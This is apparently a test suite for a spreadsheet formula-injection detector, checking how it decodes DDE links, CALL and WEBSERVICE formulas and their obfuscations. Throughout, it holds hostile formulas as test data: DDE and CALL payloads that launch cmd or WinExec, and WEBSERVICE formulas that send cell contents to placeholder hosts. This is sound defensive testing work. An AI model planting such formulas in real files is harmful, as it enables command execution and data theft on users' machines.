import { describe, expect, it } from 'vitest'

import { evaluate, type Held } from './evaluate.ts'
import { formulaItems, isFormulaCell } from './items.ts'

const links = (formula: string) =>
  evaluate(formula).actions.map((a) => a.dde && { ...a.dde })

describe('a link of DDE in a formula', () => {
  it.each([
    [`=cmd|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`=cmd|' /C calc'!'A1'`, 'cmd', ' /C calc', 'A1'],
    [`='cmd'|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`='cmd|/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`@SUM(1+1)*cmd|' /C calc'!A0`, 'cmd', ' /C calc', 'A0'],
    [`=2+5+cmd|'/C calc'!A0`, 'cmd', '/C calc', 'A0'],
    [`+thespanishinquisition(cmd|'/c calc.exe'!A`, 'cmd', '/c calc.exe', 'A'],
    [
      `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
      'cmd',
      '/c calc.exe',
      'A',
    ],
    [
      `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
      'MSEXCEL',
      '\\..\\..\\Windows\\System32\\cmd.exe /c calc',
      undefined,
    ],
    [
      `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
      'rundll32',
      'URL.dll,OpenURL calc.exe',
      'A',
    ],
    ['of:=DDE("cmd";"/c calc";"A0")', 'cmd', '/c calc', 'A0'],
    ['=DDE("c"&"md";CHAR(47)&"c calc";"A0")', 'cmd', '/c calc', 'A0'],
  ])('stands in %s', (formula, service, topic, item) => {
    expect(links(formula)).toEqual([{ service, topic, ...(item && { item }) }])
  })

  it('is none in text, numbers and ordinary formulas', () => {
    for (const formula of [
      '="run cmd | more"',
      '=SUM(B3:B4)',
      "='[book.xlsx]Sheet 1'!A1",
      '=Sheet1!A1&"|"&B2',
      '={1,2;3,4}',
    ]) {
      expect(evaluate(formula).actions, formula).toEqual([])
    }
  })
})

describe('a call in a formula', () => {
  it('has what its pieces come to', () => {
    const [item] = formulaItems(
      '=WEBSERVICE("http://"&A1&CHAR(47)&"x")',
      { position: 'A2' },
      {
        lookup: (name) => (name === 'A1' ? { text: '203.0.113.9' } : undefined),
      },
    )
    expect(item).toMatchObject({
      text: '=WEBSERVICE("http://203.0.113.9/x")',
      functionName: 'WEBSERVICE',
      target: 'http://203.0.113.9/x',
      obfuscation: expect.arrayContaining(['indirection', 'concatenation']),
    })
  })

  it('ends with what no bracket closes', () => {
    expect(
      evaluate('=CALL("kernel32","WinExec","JCJ","calc",0').actions,
    ).toMatchObject([{ name: 'CALL', target: 'kernel32 WinExec JCJ calc 0' }])
    expect(evaluate(`${'('.repeat(10_000)}1`).actions).toEqual([])
  })
})

it('a cell of text is a formula only if it acts', () => {
  for (const cell of [
    '-5',
    '+49 30 1234',
    '@home',
    '=SUM(A1)',
    '- cmd, /c',
    'a|b!c',
    'run | x',
  ]) {
    expect(isFormulaCell(cell), cell).toBe(false)
  }
  expect(isFormulaCell(`\t=cmd|'/c calc'!A0`)).toBe(true)
})

it('joins what is known where a cell is not', () => {
  const { actions } = evaluate('=WEBSERVICE(CONCATENATE("http://a/?",B2))')
  expect(actions[0]?.target).toBe('http://a/?…')
})

describe('what a formula makes of names and cells', () => {
  const held: Readonly<Record<string, Held>> = {
    B1: { text: 'http://' },
    B2: { text: '203.0.113.9' },
    B3: { text: '/q' },
    C1: { formula: 'B1&D1' },
    D1: { formula: 'B2&B3' },
    u: { formula: "S1!$B$1&B2&'S1'!B3" },
    go: {
      formula: '_xlfn.LAMBDA(_xlpm.h,_xlfn.WEBSERVICE("http://"&_xlpm.h))',
    },
    loop: { formula: 'loop', text: 'http://203.0.113.9/q' },
  }
  const targets = (formula: string) =>
    evaluate(formula, (name) => held[name]).actions.map((a) => a.target)
  const asked = (argument: string) => `=_xlfn.WEBSERVICE(${argument})`

  it.each([
    ['a cell that is made of cells', asked('C1')],
    ['a name that is made of cells', asked('u')],
    ['a name that leads to itself, as it was kept', asked('loop')],
    ['a range', asked('CONCAT(B1:B3)')],
    ['a range between marks', asked('TEXTJOIN("",1,B1:B3)')],
    ['one of a range', asked('INDEX(B1:B3,1)&B2&"/q"')],
    ['one of several', asked('CHOOSE(2,"x",C1)')],
    ['one of several, nobody knows which', asked('CHOOSE(Z9,C1,"x")')],
    ['a cell that a text names', asked('INDIRECT("B"&1)&B2&B3')],
    ['a cell that numbers name', asked('INDIRECT(ADDRESS(1,3))')],
    ['a cell of rows and columns', asked('INDIRECT("S1!R1C3",FALSE)')],
    ['what a condition lets through', asked('IF(1=2,"x",C1)')],
    ['a case', asked('_xlfn.SWITCH(3,1,"x",3,C1)')],
    ['what stands for an error', asked('IFERROR(Z9,C1)')],
    [
      'characters of a list',
      asked('CONCAT(CHAR({104,116}))&"tp://203.0.113.9/q"'),
    ],
    ['names of its own', '=LET(a,B1,b,a&B2,WEBSERVICE(b&B3))'],
    ['a function of its own', '=LAMBDA(h,WEBSERVICE("http://"&h))(B2&B3)'],
    [
      'a function under a name of its own',
      '=LET(f,LAMBDA(p,q,p&q),WEBSERVICE(f(B1,B2&B3)))',
    ],
    ['a function under a name', '=go("203.0.113.9/q")'],
  ])('is %s', (_, formula) => {
    expect(targets(formula)).toEqual(['http://203.0.113.9/q'])
  })

  it('is nothing where functions call each other without end', () => {
    const again = '=LET(f,LAMBDA(g,g(g)),WEBSERVICE(f(f)))'
    expect(targets(again)).toEqual([undefined])
  })

  it('is nothing where names stand for names without end', () => {
    const deep = (name: string) => ({
      formula: `${'('.repeat(70)}n${Number(name.slice(1)) + 1}`,
    })
    const { actions } = evaluate('=WEBSERVICE(n1)', deep)
    expect(actions.map((a) => a.target)).toEqual([undefined])
  })

  it('acts where it is called, not where it is named', () => {
    expect(targets('=LET(f,LAMBDA(h,WEBSERVICE(h)),1)')).toEqual([])
  })
})

describe('text that functions put together', () => {
  const held: Readonly<Record<string, Held>> = {
    A1: { text: '1' },
    B1: { text: 'no' },
    A2: { text: '2' },
    B2: { text: 'http://203.0.113.4/' },
    C1: { formula: 'B2', text: 'lie' },
  }
  const target = 'http://203.0.113.4/'
  it.each([
    'VLOOKUP(2,A1:B2,2,FALSE)',
    'HLOOKUP("no",A1:B2,2)',
    'XLOOKUP(2,A1:A2,B1:B2)',
    'LOOKUP(2,A1:A2,B1:B2)',
    'INDEX(A1:B2,2,2)',
    'INDEX({"a","b";"c","http://203.0.113.4/"},2,2)',
    'CHOOSE(MATCH(2,A1:A2,0),"x",B2)',
    'OFFSET(A1,1,1)',
    'INDIRECT(ADDRESS(2,2))',
    'INDIRECT("R2C2",FALSE)',
    'IFERROR(1/0,"http://203.0.113.4/")',
    'TEXT(0,"\\h\\t\\t\\p")&"://203.0.113.4/"',
    'BASE(17,18)&"ttp://203.0.113.4/"',
    '"http://"&INT(203.9)&"."&0&"."&(100+13)&"."&MOD(14,10)&"/"',
    '"http://203.0."&(3+10*11)&".4/"',
    'MID("xhttp://203.0.113.4/",FIND("h","xhttp"),99)',
    'CHAR(ROW(A104))&"ttp://203.0.113.4/"',
    'REDUCE("http://203",{".0",".113",".4/"},LAMBDA(a,b,a&b))',
    'MAP({1},LAMBDA(a,"http://203.0.113.4/"))',
    'TEXTSPLIT("http://203.0.113.4/|b","|")',
    'TAKE(B2,1)',
    'SORT(B2)',
    'CELL("contents",B2)',
    'ARRAYTOTEXT({"http://203.0.113.4/"})',
    'IF(AND(1,NOT(FALSE),LEN("ab")=2),"http://203.0.113.4/","x")',
    'C1',
    'FILTER(B1:B2,{0;1})',
    'CHOOSEROWS(B1:B2,2)',
    'TRANSPOSE(B2)',
  ])('is known: %s', (formula) => {
    const { actions } = evaluate(
      `=WEBSERVICE(${formula})`,
      (name) => held[name],
    )
    expect(actions.map((a) => a.target?.toLowerCase())).toEqual([target])
  })

  it('has a bound, whatever is put on itself', () => {
    const doubled = `=LET(a,REPT("x",30000),b,VSTACK(a,a),c,VSTACK(b,b),d,VSTACK(c,c),e,VSTACK(d,d),f,VSTACK(e,e),WEBSERVICE(TEXTJOIN("",1,f,f,f,f)))`
    const [action] = evaluate(doubled).actions
    expect(action!.target!.length).toBeLessThanOrEqual(32 * 1024)
  })
})

describe('a topic that is put together of cells', () => {
  it('is what they hold', () => {
    const held: Readonly<Record<string, Held>> = {
      A1: { text: '/c ' },
      B2: { text: 'calc' },
    }
    const { actions } = evaluate('=cmd|A1&B2!C3', (name) => held[name])
    expect(actions).toMatchObject([
      { dde: { service: 'cmd', topic: '/c calc', item: 'C3' } },
    ])
  })
})

describe('what a formula sends', () => {
  const sent = (formula: string) =>
    Array.from(
      formulaItems(
        formula,
        { position: 'C3' },
        {
          lookup: (name) =>
            name === 'A1' ? { text: 'http://files.example/' } : undefined,
        },
      ),
    ).flatMap((i) => i.sentCells ?? [])

  it('is the cells behind an address', () => {
    expect(sent('=WEBSERVICE("http://files.example/?d="&A2&B7)')).toEqual([
      'A2',
      'B7',
    ])
    expect(
      sent('=IMPORTXML(CONCAT("http://files.example/?d=",A2:B2),"//a")'),
    ).toEqual(['A2', 'B2'])
  })

  it('is not the cell that the address stands in', () => {
    expect(sent('=WEBSERVICE(A1)')).toEqual([])
    expect(sent('=WEBSERVICE("http://files.example/")&A2')).toEqual([])
    expect(sent('=SUM(A2:B9)')).toEqual([])
  })
})
